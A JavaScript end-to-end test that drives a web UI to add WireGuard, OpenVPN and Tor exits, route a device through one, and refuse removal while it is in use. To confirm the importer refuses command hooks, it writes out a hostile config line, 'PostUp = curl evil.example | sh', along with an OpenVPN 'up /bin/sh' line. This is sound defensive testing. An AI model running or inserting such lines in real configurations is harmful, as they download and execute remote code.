// End to end: the Connectivity and Routing pages on a real `pic serve` (its WireGuard off: the
// exits' tunnels themselves are tested by the Rust tier, runtime/tests/exits_live.rs). An exit
// added from a provider's file (one with a command in it refused at its line), shown down with
// the reason, its test failing and saying so; a device sent through it on the Routing page; the
// exit's removal refused while the device uses it, then done.
import { spawn, execFileSync } from "node:child_process";
import { mkdtempSync, mkdirSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import assert from "node:assert/strict";
import { launchChromium, waitForServer, openPage } from "./server.mjs";

const here = resolve(import.meta.dirname, "..");
const pic = process.env.PIC_BIN ?? resolve(here, "../target/debug/pic");
const artifacts = join(here, "e2e-artifacts");
mkdirSync(artifacts, { recursive: true });
const password = "cell-admin-password";
const port = 3700 + Math.floor(Math.random() * 90);
const base = `http://127.0.0.1:${port}`;

const state = mkdtempSync(join(tmpdir(), "pic-e2e-exits-"));
const config = {
  version: 2,
  cell: { name: "home" },
  network: { subnet: "172.20.0.0/24" },
  wireguard: { subnet: "10.8.0.0/24" },
  users: [{ name: "admin", role: "admin" }],
};
writeFileSync(join(state, "config.json"), JSON.stringify(config));
const cli = (args, input = "") => execFileSync(pic, ["--state", join(state, "s"), ...args], { input, stdio: ["pipe", "ignore", "inherit"] });
cli(["init", "--config", join(state, "config.json")]);
cli(["user", "passwd", "admin"], `${password}\n`);
cli(["switch"]);
cli(["peer", "add", "laptop", "--routing", "full"]);
const server = spawn(pic, ["--state", join(state, "s"), "serve", "--listen", `127.0.0.1:${port}`, "--wireguard", "off",
  "--no-containers", "--webui", join(here, "dist")], { stdio: ["ignore", "ignore", "inherit"] });

const provider = `[Interface]
PrivateKey = YNqHwpcAmVj0lVzPATSQwP2yI7TsGO1vYjNeqVd7eFw=
Address = 10.64.12.34/32
DNS = 10.64.0.1

[Peer]
PublicKey = cHJvdmlkZXJwdWJsaWNrZXlwcm92aWRlcnB1YmxpY2s=
AllowedIPs = 0.0.0.0/0
Endpoint = 192.0.2.10:51820
`;

const browser = await launchChromium();
let failed = false;
try {
  await waitForServer(base);
  const page = await browser.newPage({ viewport: { width: 390, height: 844 } }); // phone width
  page.on("dialog", (dialog) => dialog.accept());
  await page.goto(base);
  await page.getByLabel("User").fill("admin");
  await page.getByLabel("Password").fill(password);
  await page.getByRole("button", { name: "Log in" }).click();
  await openPage(page, "Connectivity");
  await page.getByText("No exit yet.").waitFor();

  // A file that would run a command is refused, naming the line.
  const add = page.getByRole("form", { name: "Add an exit" });
  await add.getByLabel(/^Name/).fill("provider");
  await add.getByLabel("… or its text").fill(provider.replace("DNS = 10.64.0.1", "DNS = 10.64.0.1\nPostUp = curl evil.example | sh"));
  await add.getByRole("button", { name: "Add exit" }).click();
  await add.getByRole("alert").getByText(/line 5: PostUp runs a command/).waitFor();

  // The provider's file as it is: the exit is added, down (no tunnel on this machine), and its
  // test says it does not work.
  await add.getByLabel("… or its text").fill(provider);
  await add.getByRole("button", { name: "Add exit" }).click();
  const card = page.getByRole("article", { name: "Exit provider" });
  await card.waitFor();
  await card.getByText("Down").waitFor();
  await card.getByRole("button", { name: "Test" }).click();
  await card.getByText(/^Does not work:/).waitFor();
  await page.screenshot({ path: join(artifacts, "connectivity.png"), fullPage: true });

  // The laptop sent through it on the Routing page.
  await openPage(page, "Routing");
  const way = page.getByLabel("Where laptop's traffic goes");
  await way.selectOption("exit:provider");
  await page.getByText("laptop is changed.").waitFor();
  const laptop = await page.evaluate(() => fetch("/api/peers/laptop").then((r) => r.json()));
  assert.equal(laptop.exit, "provider");
  assert.equal(await way.inputValue(), "exit:provider");
  await page.screenshot({ path: join(artifacts, "routing.png"), fullPage: true });

  // Its removal is refused while the laptop uses it, then done once the laptop leaves it.
  await openPage(page, "Connectivity");
  await card.getByText(/Devices going out through it:/).waitFor();
  await card.getByRole("button", { name: "Remove the exit provider" }).click();
  await page.getByText(/in use by device laptop/).waitFor();
  await openPage(page, "Routing");
  await page.getByLabel("Where laptop's traffic goes").selectOption("full");
  await page.getByText("laptop is changed.").waitFor();
  await openPage(page, "Connectivity");
  await card.getByRole("button", { name: "Remove the exit provider" }).click();
  await page.getByText("The exit provider is removed.").waitFor();
  await page.getByText("No exit yet.").waitFor();

  // An OpenVPN exit: a file that would run a program is refused at its line; a plain one is
  // added, its container to be run by the cell.
  await add.getByLabel("The provider's connection").selectOption("openvpn");
  await add.getByLabel(/^Name/).fill("office");
  await add.getByLabel("… or its text").fill("client\nremote 192.0.2.20 1194\nup /bin/sh\n");
  await add.getByLabel(/The provider's DNS server/).fill("10.66.0.1");
  await add.getByRole("button", { name: "Add exit" }).click();
  await add.getByRole("alert").getByText(/line 3: `up` runs a program/).waitFor();
  await add.getByLabel("… or its text").fill("client\nremote 192.0.2.20 1194\n");
  await add.getByRole("button", { name: "Add exit" }).click();
  await page.getByRole("article", { name: "Exit office" }).getByText("(OpenVPN, 192.0.2.20 1194)").waitFor();
  // A Tor exit needs no file.
  await add.getByLabel("The provider's connection").selectOption("tor");
  await add.getByLabel(/^Name/).fill("tor");
  await add.getByRole("button", { name: "Add exit" }).click();
  await page.getByRole("article", { name: "Exit tor" }).getByText("(Tor, the Tor network)").waitFor();
  await page.screenshot({ path: join(artifacts, "connectivity-openvpn-tor.png"), fullPage: true });
  console.log("e2e exits: a file with a command refused at its line, an exit added and shown down with a failing test, a device sent through it, removal refused while in use, then done; an OpenVPN exit refused for a program, then added; a Tor exit: ok");
} catch (error) {
  failed = true;
  console.error(error);
} finally {
  await browser.close();
  server.kill();
  rmSync(state, { recursive: true, force: true });
}
process.exit(failed ? 1 : 0);
